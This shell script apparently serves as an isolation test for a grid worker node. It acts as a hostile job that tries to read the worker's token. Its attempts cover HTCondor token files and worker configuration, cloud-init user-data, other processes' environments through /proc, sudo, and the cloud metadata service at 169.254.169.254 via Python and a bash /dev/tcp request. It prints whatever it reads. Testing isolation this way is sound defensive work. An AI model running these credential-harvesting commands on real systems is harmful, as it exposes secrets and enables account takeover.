#!/bin/sh
# A job that wants the worker's token, and takes home whatever it can read.
# It prints "WHAT: refused" or "WHAT: READ" for each attempt, and what it read, indented.
# Run by root it must read everything: that shows that there was something to be had.
# shellcheck disable=SC2317 # attempt calls the functions by name

PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin
TOKEN='eyJ[A-Za-z0-9_-]*\.eyJ' # the shape of any; this line has not got it
METADATA=169.254.169.254

attempt() { # WHAT COMMAND...: it is READ if the command has anything to say
    what=$1
    shift
    got=$("$@" 2>/dev/null | tr -d '\0' | head -c 50000)
    if [ -n "$got" ]; then
        echo "$what: READ"
        printf '%s\n' "$got" | sed 's/^/    /'
    else
        echo "$what: refused"
    fi
}

with_token() { # FOLDER...: the lines of any file in them that hold one
    find "$@" -xdev -type f -exec grep -haE -- "$TOKEN" {} +
}

environments() { # of everybody else
    for process in /proc/[0-9]*; do
        if [ "$(id -u)" = 0 ] || [ "$(stat -c %u "$process")" != "$(id -u)" ]; then
            cat "$process/environ"
        fi
    done
}

by_python() { # PATH
    python3 - "http://$METADATA$1" <<'PYTHON'
import sys
import urllib.request

plain = urllib.request.build_opener(urllib.request.ProxyHandler({}))
print(plain.open(sys.argv[1], timeout=5).read().decode())
PYTHON
}

by_bash() { # PATH
    timeout 5 bash -c "exec 3<>/dev/tcp/$METADATA/80
        printf 'GET $1 HTTP/1.0\r\nHost: $METADATA\r\n\r\n' >&3; cat <&3"
}

attempt 'configuration' cat /etc/osg-worker.conf
attempt 'configuration, by the root of PID 1' cat /proc/1/root/etc/osg-worker.conf
attempt 'configuration, by sudo' sudo -n cat /etc/osg-worker.conf
attempt 'names of tokens' ls /etc/condor/tokens.d
attempt 'tokens' sh -c 'cat /etc/condor/tokens.d/*'
attempt 'user-data as received' cat /var/lib/cloud/instance/user-data.txt
attempt 'user-data as processed' cat /var/lib/cloud/instance/user-data.txt.i
attempt 'user-data as scripts' sh -c 'cat /var/lib/cloud/instance/scripts/*'
attempt 'user-data as kept by instance' with_token /var/lib/cloud/instances
attempt 'seed' cat /var/lib/cloud/seed/nocloud/user-data
attempt 'instance data' cat /run/cloud-init/instance-data-sensitive.json
attempt 'token in any file' with_token /etc /var /run /home /root /opt /srv /tmp
attempt 'environments of others' environments
attempt 'memory map of PID 1' cat /proc/1/maps
attempt 'metadata service, EC2, by python' by_python /latest/user-data
attempt 'metadata service, OpenStack, by python' by_python /openstack/latest/user_data
attempt 'metadata service, EC2, by bash' by_bash /latest/user-data

# Everybody may read these; it is for the test to see that no token is in them.
echo 'command lines:'
for process in /proc/[0-9]*; do tr '\0' ' ' <"$process/cmdline" | sed 's/^/    /'; done 2>/dev/null
env | sed 's/^/    /'
cat .job.ad .machine.ad 2>/dev/null | sed 's/^/    /'
exit 0
